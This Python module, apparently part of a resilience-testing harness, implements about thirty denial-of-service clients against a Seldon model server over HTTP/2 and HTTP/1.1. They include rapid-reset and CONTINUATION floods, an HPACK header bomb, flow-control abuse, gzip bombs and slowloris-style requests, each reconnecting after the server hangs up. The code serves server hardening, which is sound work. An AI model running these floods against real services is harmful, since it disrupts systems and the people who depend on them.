"""What hostile and broken clients do, each for as long as it is let.

An attack connects again where the server hangs up on it, as a patient attacker would. `ATTACKS` names them all.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import struct
from contextlib import suppress
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Final

from hpack import Encoder

from penstock.proto import prediction_pb2 as pb

from ..wire_client import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    frame,
    grpc_fields,
    message,
    settings,
    window_update,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Coroutine

_PREDICT: Final = "/seldon.protos.Seldon/Predict"
_INITIAL_WINDOW_SIZE: Final = 4
# Frames in one write: large enough that the server is what limits a flood.
_AT_ONCE: Final = 500
_AGAIN: Final = 0.02


@dataclass
class Target:
    """Where to, and what came of it.

    Attributes:
        grpc: ``host:port``, as ``http``.
        hung_up: how often the server ended a connection.
    """

    grpc: str
    http: str
    hung_up: int = 0


class Peer:
    """A connection that sends bytes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self._writer = writer
        self._stream = 1
        self.block = Encoder().encode([(*field, True) for field in grpc_fields(_PREDICT)])

    async def send(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    def open(self, flags: int = END_HEADERS, block: bytes | None = None) -> tuple[int, bytes]:
        """A new stream: its number, and its HEADERS."""
        number, self._stream = self._stream, self._stream + 2
        return number, frame(HEADERS, flags, number, self.block if block is None else block)

    def call(self, body: bytes) -> bytes:
        number, head = self.open()
        framed = message(body)
        pieces = [framed[at : at + 16_384] for at in range(0, len(framed), 16_384)]
        return head + b"".join(frame(DATA, END_STREAM if piece is pieces[-1] else 0, number, piece) for piece in pieces)

    async def swallow(self) -> None:
        """Read and forget, until the server hangs up."""
        while await self.reader.read(1 << 16):
            pass
        raise ConnectionResetError


async def _again(
    target: Target, where: str, script: Callable[[Peer], Coroutine[Any, Any, None]], *, reads: bool = True
) -> None:
    host, _, port = where.rpartition(":")
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, int(port), limit=1 << 12)
        except OSError:
            await asyncio.sleep(_AGAIN)
            continue
        peer = Peer(reader, writer)
        tasks = [asyncio.create_task(work) for work in ([peer.swallow()] if reads else []) + [script(peer)]]
        try:
            await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        finally:
            writer.transport.abort()
            for task in tasks:
                task.cancel()
            ended = await asyncio.gather(*tasks, return_exceptions=True)
            with suppress(OSError):
                await writer.wait_closed()
        target.hung_up += any(isinstance(end, OSError) for end in ended)
        await asyncio.sleep(_AGAIN)


async def _many(target: Target, where: str, script: Callable[[Peer], Coroutine[Any, Any, None]], count: int) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_again(target, where, script))


def _large() -> bytes:
    """A request whose answer is as large as itself."""
    return pb.SeldonMessage(binData=bytes(50_000)).SerializeToString()


# ---------------------------------------------------------------------- HTTP/2


def _flood(make: Callable[[Peer], bytes]) -> Callable[[Target], Coroutine[Any, Any, None]]:
    """The same frames again and again, as fast as they are taken."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        while True:
            await peer.send(b"".join(make(peer) for _ in range(_AT_ONCE)))
            await asyncio.sleep(0)

    return lambda target: _again(target, target.grpc, script)


def _rapid_reset(peer: Peer) -> bytes:
    number, head = peer.open()
    return head + frame(RST_STREAM, 0, number, struct.pack(">L", 8))


def _bad_request(peer: Peer) -> bytes:
    """Its own header block is against the rules, so the server is the one to reset (CVE-2025-8671)."""
    return peer.open(END_HEADERS | END_STREAM, b"\x83")[1]


async def _never_reads(target: Target) -> None:
    async def script(peer: Peer) -> None:
        await peer.send(
            PREFACE + settings({_INITIAL_WINDOW_SIZE: (1 << 31) - 1}) + window_update(0, (1 << 31) - 65_536)
        )
        while True:
            await peer.send(peer.call(_large()))

    await _again(target, target.grpc, script, reads=False)


async def _no_window(target: Target) -> None:
    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({_INITIAL_WINDOW_SIZE: 0}))
        while True:
            await peer.send(peer.call(_large()))
            await asyncio.sleep(0.001)

    await _again(target, target.grpc, script)


async def _window_of_one(target: Target) -> None:
    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({_INITIAL_WINDOW_SIZE: 1}))
        await peer.send(b"".join(peer.call(_large()) for _ in range(20)))
        while True:
            for number in range(1, 41, 2):
                await peer.send(window_update(number, 1))
            await asyncio.sleep(0.001)

    await _many(target, target.grpc, script, 5)


async def _window_to_and_fro(target: Target) -> None:
    """Each SETTINGS moves the windows of all streams that wait."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({_INITIAL_WINDOW_SIZE: 0}))
        await peer.send(b"".join(peer.call(_large()) for _ in range(100)))
        for size in itertools.cycle([1, 0]):
            await peer.send(settings({_INITIAL_WINDOW_SIZE: size}) * 50)
            await asyncio.sleep(0)

    await _again(target, target.grpc, script)


async def _drip(target: Target) -> None:
    """A call, a byte at a time."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        for byte in peer.call(bytes(1000)):
            await peer.send(bytes([byte]))
            await asyncio.sleep(0.02)

    await _many(target, target.grpc, script, 100)


async def _silence(target: Target) -> None:
    async def script(peer: Peer) -> None:
        await peer.send(b"PRI")
        await asyncio.sleep(3600)

    await _many(target, target.grpc, script, 300)


async def _comes_and_goes(target: Target) -> None:
    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}) + peer.call(b""))
        raise ConnectionResetError

    await _many(target, target.grpc, script, 20)


async def _header_bomb(target: Target) -> None:
    """One field of 4,000 bytes in the dynamic table, named 15,000 times in a block of 16 KB."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        large = b"\x40\x01a" + b"\x7f" + _integer(4000 - 0x7F) + b"v" * 4000
        await peer.send(peer.open(block=peer.block + large)[1])
        while True:
            await peer.send(peer.open(block=peer.block + b"\xbe" * 15_000)[1])
            await asyncio.sleep(0)

    await _again(target, target.grpc, script)


def _integer(value: int) -> bytes:
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def _continuation(payload: bytes) -> Callable[[Target], Coroutine[Any, Any, None]]:
    """A header block that never ends."""

    async def script(peer: Peer) -> None:
        number, head = peer.open(flags=0)
        await peer.send(PREFACE + settings({}) + head)
        while True:
            await peer.send(frame(CONTINUATION, 0, number, payload) * 100)
            await asyncio.sleep(0)

    return lambda target: _again(target, target.grpc, script)


def _data(payload: bytes) -> Callable[[Target], Coroutine[Any, Any, None]]:
    """A body in tiny frames."""

    async def script(peer: Peer) -> None:
        number, head = peer.open()
        await peer.send(PREFACE + settings({}) + head)
        while True:
            await peer.send(frame(DATA, 0, number, payload) * _AT_ONCE)
            await asyncio.sleep(0)

    return lambda target: _again(target, target.grpc, script)


async def _half_open(target: Target) -> None:
    """Streams that are opened and never finished, as many as are taken."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        while True:
            await peer.send(b"".join(peer.open()[1] for _ in range(100)))
            await asyncio.sleep(0.005)

    await _many(target, target.grpc, script, 5)


async def _unfinished_bodies(target: Target) -> None:
    """Bodies that stop short of their end: each takes what the server lets come."""

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        while True:
            number, head = peer.open()
            body = struct.pack(">BL", 0, 60_000_000) + bytes(16_379)
            await peer.send(head + frame(DATA, 0, number, body) + frame(DATA, 0, number, bytes(16_384)) * 2)
            await asyncio.sleep(0.001)

    await _many(target, target.grpc, script, 10)


async def _inflating(target: Target) -> None:
    """50 MB of zeros in 50 KB."""
    bomb = gzip.compress(pb.SeldonMessage(binData=bytes(50_000_000)).SerializeToString(), mtime=0)
    framed = message(bomb, 1)

    async def script(peer: Peer) -> None:
        await peer.send(PREFACE + settings({}))
        block = Encoder().encode([(*field, True) for field in [*grpc_fields(_PREDICT), (b"grpc-encoding", b"gzip")]])
        while True:
            number, head = peer.open(block=block)
            pieces = [framed[at : at + 16_384] for at in range(0, len(framed), 16_384)]
            frames = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, number, piece) for piece in pieces]
            await peer.send(head + b"".join(frames))
            await asyncio.sleep(0.2)

    await _again(target, target.grpc, script)


# ---------------------------------------------------------------------- HTTP/1.1

_POST: Final = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def _on_http(first: bytes, then: bytes, wait: float, count: int = 1) -> Callable[[Target], Coroutine[Any, Any, None]]:
    """Send ``first`` once and ``then`` for ever."""

    async def script(peer: Peer) -> None:
        await peer.send(first)
        while True:
            await peer.send(then)
            await asyncio.sleep(wait)

    return lambda target: _many(target, target.http, script, count)


async def _inflating_body(target: Target) -> None:
    """50 MB in 50 KB, as a text without end."""
    bomb = gzip.compress(b'{"strData": "%s"}' % bytes(50_000_000), mtime=0)
    request = _POST + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb) + bomb

    async def script(peer: Peer) -> None:
        while True:
            await peer.send(request)
            await asyncio.sleep(0.2)

    await _again(target, target.http, script)


async def _pipeline_unread(target: Target) -> None:
    """Requests one after the other, and nobody who reads the answers."""
    body = b'{"jsonData": "%s"}' % (b"x" * 50_000)
    request = _POST + b"Content-Length: %d\r\n\r\n" % len(body) + body

    async def script(peer: Peer) -> None:
        while True:
            await peer.send(request)

    await _again(target, target.http, script, reads=False)


async def _pipeline(target: Target) -> None:
    async def script(peer: Peer) -> None:
        while True:
            await peer.send(b"GET /health/ping HTTP/1.1\r\nHost: x\r\n\r\n" * _AT_ONCE)
            await asyncio.sleep(0)

    await _again(target, target.http, script)


ATTACKS: Final[dict[str, Callable[[Target], Coroutine[Any, Any, None]]]] = {
    "rapid reset": _flood(_rapid_reset),
    "made to reset": _flood(_bad_request),
    "pings": _flood(lambda _: frame(PING, 0, 0, bytes(8))),
    "settings": _flood(lambda _: settings({_INITIAL_WINDOW_SIZE: 70_000})),
    "empty settings": _flood(lambda _: frame(SETTINGS, 0, 0)),
    "window updates": _flood(lambda _: window_update(0, 1)),
    "priorities": _flood(lambda _: frame(PRIORITY, 0, 5, struct.pack(">LB", 3, 1))),
    "unknown frames": _flood(lambda _: frame(0xFA, 0, 0, b"x")),
    "never reads": _never_reads,
    "no window": _no_window,
    "window of one": _window_of_one,
    "window to and fro": _window_to_and_fro,
    "drip": _drip,
    "silence": _silence,
    "comes and goes": _comes_and_goes,
    "header bomb": _header_bomb,
    "continuation": _continuation(b"\x00\x01a\x01b" * 100),
    "empty continuation": _continuation(b""),
    "empty data": _data(b""),
    "tiny data": _data(b"\0"),
    "half open": _half_open,
    "unfinished bodies": _unfinished_bodies,
    "inflating": _inflating,
    "http/1.1 slow head": _on_http(b"GET / HTTP/1.1\r\n", b"X-A: b\r\n", 0.05, 100),
    "http/1.1 endless head": _on_http(b"GET / HTTP/1.1\r\n", b"X-A: %s\r\n" % (b"b" * 1000), 0.0),
    "http/1.1 slow body": _on_http(_POST + b"Content-Length: 100000\r\n\r\n", b"{", 0.05, 100),
    "http/1.1 tiny chunks": _on_http(_POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n" * _AT_ONCE, 0.0),
    "http/1.1 long chunk head": _on_http(_POST + b"Transfer-Encoding: chunked\r\n\r\n1;", b"a=b;" * _AT_ONCE, 0.0),
    "http/1.1 inflating": _inflating_body,
    "http/1.1 pipeline": _pipeline,
    "http/1.1 pipeline unread": _pipeline_unread,
}
